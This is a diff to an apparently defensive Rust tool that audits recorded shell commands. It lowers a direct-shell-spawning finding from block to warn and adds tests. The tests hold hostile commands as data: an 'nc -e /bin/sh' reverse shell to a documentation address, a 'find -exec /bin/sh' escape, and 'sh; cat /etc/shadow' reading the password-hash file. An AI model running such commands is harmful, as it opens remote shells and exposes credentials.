@@ -17,6 +17,9 @@ const STACK: usize = 8 << 20;
 /// The home directory of users whose home is not known. Paths in it are judged as those in a home.
 const HOME: &str = "/home/user";
 
+/// The rule about shells that take commands.
+const SHELL: &str = "direct-shell-spawner";
+
 /// The verdict on a record.
 #[derive(Debug, Clone)]
 pub(crate) struct RecordVerdict {
@@ -29,8 +32,13 @@ pub(crate) struct RecordVerdict {
 
 impl RecordVerdict {
     fn of(decision: &Decision) -> Self {
+        // That nobody judges what is typed at a shell says little about a day without a guard: people use shells, and
+        // what they ran there is recorded too. Whoever starts one through another program is judged by another rule.
+        let mut blocking = decision.findings().iter().filter(|found| found.action == Action::Block);
+        let shell = decision.rule().name == SHELL && blocking.all(|found| found.rule.name == SHELL);
+        let action = decision.action();
         Self {
-            action: decision.action(),
+            action: if shell { action.min(Action::Warn) } else { action },
             rule: decision.rule(),
             reason: decision.reason().to_owned(),
             confidence: decision.confidence(),
@@ -233,6 +241,15 @@ mod tests {
         let mut busybox = record("a", "nc -e /bin/sh 192.0.2.1 9");
         busybox.program = Some("/bin/busybox".to_owned());
         assert_eq!(actions(&[busybox]), [Action::Block]);
+    }
+
+    #[test]
+    fn a_shell_that_somebody_starts_is_asked_about_and_one_behind_another_program_is_blocked() {
+        let records =
+            ["bash", "tmux new -s work", "find . -exec /bin/sh \\;", "sh; cat /etc/shadow"];
+        let records = records.map(|command| record("a", command));
+        let expected = [Action::Warn, Action::Warn, Action::Block, Action::Block];
+        assert_eq!(actions(&records), expected);
     }
 
     #[test]
